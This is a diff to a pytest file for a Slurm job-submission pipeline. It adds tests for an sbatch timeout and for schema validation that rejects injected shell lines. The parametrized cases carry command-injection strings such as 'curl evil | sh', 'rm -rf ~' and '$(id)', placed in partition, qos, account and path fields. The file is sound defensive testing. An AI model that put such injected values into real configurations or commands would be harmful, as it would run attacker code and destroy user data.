@@ -12,6 +12,7 @@ from pathlib import Path
 import dill
 import pytest
 from datatrove.executor import SlurmPipelineExecutor
+from pydantic import ValidationError
 
 from pretrain.config.data import SlurmConfig
 from pretrain.core.errors import CurationSubmitted, PretrainError
@@ -257,14 +258,52 @@ def test_a_silent_failure_names_sbatchs_exit_status(tmp_path, monkeypatch):
         submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="datatrove runs sbatch with check_output, which does not capture stderr, so exc.stderr is always None: "
-    "the reason sbatch prints (on stderr, as real sbatch does) never reaches the SlurmError",
-)
 def test_the_reason_sbatch_gives_on_stderr_is_in_the_slurm_error(tmp_path, monkeypatch):
     write_sbatch(tmp_path / "bin", 'echo "sbatch: error: Invalid partition name specified" >&2\nexit 1\n')
     monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
     with pytest.raises(SlurmError) as info:
         submit_chain(chain(tmp_path / "logs"), SubmittedJobs(tmp_path / SUBMITTED))
     assert "Invalid partition name specified" in str(info.value)
+
+
+def test_an_sbatch_that_never_answers_is_a_slurm_error_within_its_timeout(tmp_path, monkeypatch):
+    import pretrain.core.slurm as slurm
+
+    write_sbatch(tmp_path / "bin", "sleep 60\n")
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
+    monkeypatch.setattr(slurm, "SBATCH_TIMEOUT_S", 1)
+    guard = SubmittedJobs(tmp_path / SUBMITTED)
+    with pytest.raises(SlurmError, match="sbatch did not answer within 1 s"):
+        submit_chain(chain(tmp_path / "logs"), guard)
+    assert guard.pending() is None
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        ({"partition": "cpu\necho pwned"}, "partition"),
+        ({"qos": "high\rrm -rf ~"}, "qos"),
+        ({"sbatch_args": {"account": "lm\ncurl evil | sh"}}, "account"),
+        ({"sbatch_args": {"acc ount=x\n#": "lm"}}, "sbatch option name"),
+        ({"venv_path": "/venv; curl evil | sh"}, "venv_path"),
+        ({"venv_path": "$(id)"}, "venv_path"),
+    ],
+)
+def test_a_value_that_would_become_a_shell_line_is_refused_by_the_schema(change, named):
+    """A newline in partition / qos / an sbatch_args value used to pass validate and become a line of the script."""
+    with pytest.raises(ValidationError, match=named) as info:
+        SlurmConfig(**{**SETTINGS.model_dump(), **change})
+    assert (
+        "control character" in str(info.value)
+        or "interpret" in str(info.value)
+        or "option name" in str(info.value)
+    )
+
+
+def test_an_output_folder_the_shell_would_interpret_is_refused_before_submitting(tmp_path, sbatch):
+    logs = tmp_path / "out$(id >pwned)" / "logs"
+    with pytest.raises(
+        SlurmError, match=r"output folder .*\$.* which the batch script's shell would interpret"
+    ):
+        chain(logs)
+    assert not list(sbatch.iterdir())
